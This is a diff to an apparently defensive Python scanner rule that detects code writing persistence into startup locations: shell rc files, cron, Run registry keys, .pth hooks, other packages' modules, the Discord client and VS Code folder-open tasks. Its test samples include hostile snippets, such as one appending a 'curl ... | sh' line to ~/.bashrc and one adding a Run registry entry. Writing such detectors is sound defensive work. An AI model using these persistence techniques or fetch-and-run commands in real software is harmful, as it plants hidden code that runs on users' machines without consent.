@@ -34,7 +34,11 @@ COMMANDS = [re.compile(p, re.IGNORECASE | re.MULTILINE) for p in _catalog.names(
 _WHAT = {"shell_rc": "a shell startup file", "cron": "a cron table", "systemd": "a system service definition",
          "launchd": "a launchd agent/daemon", "autostart": "an autostart/startup folder",
          "ssh_keys": "SSH authorized keys", "preload": "the dynamic loader preload list",
-         "python_startup": "a Python startup hook (a .pth file or sitecustomize in site-packages)"}
+         "python_startup": "a Python startup hook (a .pth file or sitecustomize in site-packages, an IPython startup "
+                           "file)",
+         "installed_package": "a module of another installed package",
+         "app_injection": "another application's code (the Discord client's core module)",
+         "ide_autorun": "an editor task that runs when the folder is opened"}
 _HOME_VARS = {"HOME": "~", "USERPROFILE": "~", "APPDATA": "%appdata%", "LOCALAPPDATA": "%localappdata%"}
 _WRITERS = {"shutil.copy": 1, "shutil.copy2": 1, "shutil.copyfile": 1, "shutil.move": 1, "os.rename": 1,
             "os.replace": 1, "os.symlink": 1, "os.link": 1}
@@ -73,11 +77,17 @@ class Persistence(CappedInTestCode, ps.CodeScreen, Rule):
     login, boot or on a schedule: `~/.bashrc`, `~/.profile`, `/etc/profile.d`, crontabs,
     systemd units, `~/Library/LaunchAgents`, startup folders, `~/.config/autostart`, `.pth` files
     and `sitecustomize`/`usercustomize` in a site folder (`site.getsitepackages()`, `site.USER_SITE`,
-    `sysconfig.get_path("purelib")` or a `site-packages` path: Python runs them at every start), and
-    `~/.ssh/authorized_keys` (critical: a login for someone else). Also `winreg.SetValueEx` under
-    a `...\\CurrentVersion\\Run` key, and commands handed to spawners: `crontab -`,
-    `schtasks /create`, `reg add ...\\Run`, `systemctl enable`, `launchctl load`, and cron jobs
-    added with the python-crontab library (`CronTab(user=True).new(command=...)`).
+    `sysconfig.get_path("purelib")` or a `site-packages` path: Python runs them at every start),
+    IPython profile startup folders, a module of another installed package (its folder found with
+    `importlib.util.find_spec(name).origin` or `name.__file__`: the code then runs wherever that
+    package is imported, and outlives the package that wrote it), the Discord client's core module
+    (token stealers' "injection"), a VS Code `tasks.json` in a module that mentions `folderOpen`,
+    and `~/.ssh/authorized_keys` (critical: a login for someone else). Also `winreg.SetValueEx`
+    under a `...\\CurrentVersion\\Run` key, and commands handed to spawners: `crontab -`,
+    `schtasks /create`, `reg add ...\\Run`, `systemctl enable`, `launchctl load`,
+    `git config --global core.hooksPath` (hooks for every repository of the user), and cron jobs
+    added with the python-crontab library (`CronTab(user=True).new(command=...)`). A path built in a
+    loop is followed to what the loop iterates: a comprehension's paths, a `glob.glob` pattern.
 
     A `.pth` written with folder paths only (no `import` line, the only lines Python runs) is low,
     and a write made after the same function asked the user (`input()`, `click.confirm`) is medium:
@@ -121,6 +131,7 @@ class Persistence(CappedInTestCode, ps.CodeScreen, Rule):
         "from pathlib import Path\n(Path.home() / '.config' / 'tool' / 'settings.toml').write_text('x = 1')\n",
         "import subprocess\nsubprocess.run(['crontab', '-l'])\n",
         "import os\nopen(os.path.join('build', 'lib', 'project.pth'), 'w').write('src')\n",
+        "import os\nopen(os.path.join(os.path.dirname(__file__), '_version.py'), 'w').write('v = 1')\n",
     )
     INVALID = (
         "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write('curl https://example.com | sh')\n",
@@ -129,6 +140,7 @@ class Persistence(CappedInTestCode, ps.CodeScreen, Rule):
         "import os, site\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('import x')\n",
         "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', "
         "0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'updater', 0, winreg.REG_SZ, 'C:\\\\x.exe')\n",
+        "import os, requests\nopen(os.path.join(os.path.dirname(requests.__file__), 'api.py'), 'a').write('import x')\n",
     )
 
     @classmethod
@@ -152,7 +164,11 @@ class Persistence(CappedInTestCode, ps.CodeScreen, Rule):
             bound = an.names.single_value(expr.value)
             if bound is not None:
                 return self._fold(bound, d)
-            return "*/site-packages" if self._loops_over_site_folders(expr, an) else "*"
+            if self._loops_over_site_folders(expr, an):
+                return "*/site-packages"
+            return self._fold_loop_variable(expr, an, d)
+        if isinstance(expr, cst.Attribute) and expr.attr.value in ("__file__", "origin"):
+            return self._installed_module(expr, an)
         if isinstance(expr, cst.BinaryOperation):
             if isinstance(expr.operator, cst.Divide):
                 return self._fold(expr.left, d) + "/" + self._fold(expr.right, d)
@@ -182,6 +198,9 @@ class Persistence(CappedInTestCode, ps.CodeScreen, Rule):
                 return self._fold(args[0], d)
             if qualified & {"os.path.join", "posixpath.join", "ntpath.join"}:
                 return "/".join(self._fold(a, d) for a in args)
+            if qualified & {"os.path.dirname"} and args:
+                folder = self._fold(args[0], d).rstrip("/\\").rpartition("/")[0]
+                return folder or "*"
             if any(q.endswith(("Path.home", "Path().home")) for q in qualified) or qualified & {"pathlib.Path.home"}:
                 return "~"
             if any(q.startswith("pathlib.") and q.rsplit(".", 1)[-1] in ("Path", "PosixPath", "WindowsPath",
@@ -194,6 +213,42 @@ class Persistence(CappedInTestCode, ps.CodeScreen, Rule):
                 if method == "joinpath":
                     return "/".join([self._fold(expr.func.value, d)] + [self._fold(a, d) for a in args])
         return "*"
+
+    def _fold_loop_variable(self, name: cst.Name, an: Analyzer, depth: int) -> str:
+        """`for index in glob.glob(pattern)`, `for p in [join(d, "x") for d in dirs]`: the path the loop variable
+        iterates over (a glob pattern's `*` stands for an unknown part, as in a folded path)."""
+        flow = an.flow() if depth < 8 else None
+        for iterable in flow.iterables_of(name)[:4] if flow is not None else ():
+            if isinstance(iterable, cst.Name):
+                iterable = an.names.single_value(iterable.value) or iterable
+            if isinstance(iterable, (cst.ListComp, cst.GeneratorExp)):
+                found = self._fold(iterable.elt, depth + 1)
+            elif isinstance(iterable, cst.Call) and an.call_names(iterable) & {"glob.glob", "glob.iglob"} and \
+                    iterable.args:
+                found = self._fold(iterable.args[0].value, depth + 1)
+            else:
+                continue
+            if found != "*":
+                return found
+        return "*"
+
+    def _installed_module(self, expr: cst.Attribute, an: Analyzer) -> str:
+        """`requests.__file__`, `importlib.util.find_spec("requests").origin`: a module of another installed package,
+        folded into a site folder (not the scanned package itself, which may write its own files)."""
+        name: str | None = None
+        if expr.attr.value == "__file__" and isinstance(expr.value, (cst.Name, cst.Attribute)):
+            found = sorted(q for q in an.names.qualified_names(expr.value) if not q.startswith(("<", "~", "builtins.")))
+            name = found[0] if found and "(" not in found[0] else None
+        elif expr.attr.value == "origin":
+            spec = expr.value
+            if isinstance(spec, cst.Name):
+                spec = an.names.single_value(spec.value) or spec
+            if isinstance(spec, cst.Call) and an.call_names(spec) & {"importlib.util.find_spec", "pkgutil.find_loader"} \
+                    and spec.args:
+                name = fold_str(spec.args[0].value, an.names)
+        if not name or name.startswith(".") or name.split(".")[0] in self.context.path.replace("\\", "/").split("/"):
+            return "*"
+        return f"*/site-packages/{name.replace('.', '/')}/__init__.py"
 
     @staticmethod
     def _site_folder(expr: cst.BaseExpression, an: Analyzer) -> bool:
@@ -260,7 +315,7 @@ class Persistence(CappedInTestCode, ps.CodeScreen, Rule):
 
     def _report_write(self, node: cst.Call, path: str, data: cst.BaseExpression | None, how: str) -> None:
         kind = self.classify_path(path)
-        if kind is None:
+        if kind is None or kind == "ide_autorun" and "folderOpen" not in self.context.text:
             return
         an = Analyzer.of(self.context)
         severity = Severity.CRITICAL if kind == "ssh_keys" else Severity.HIGH
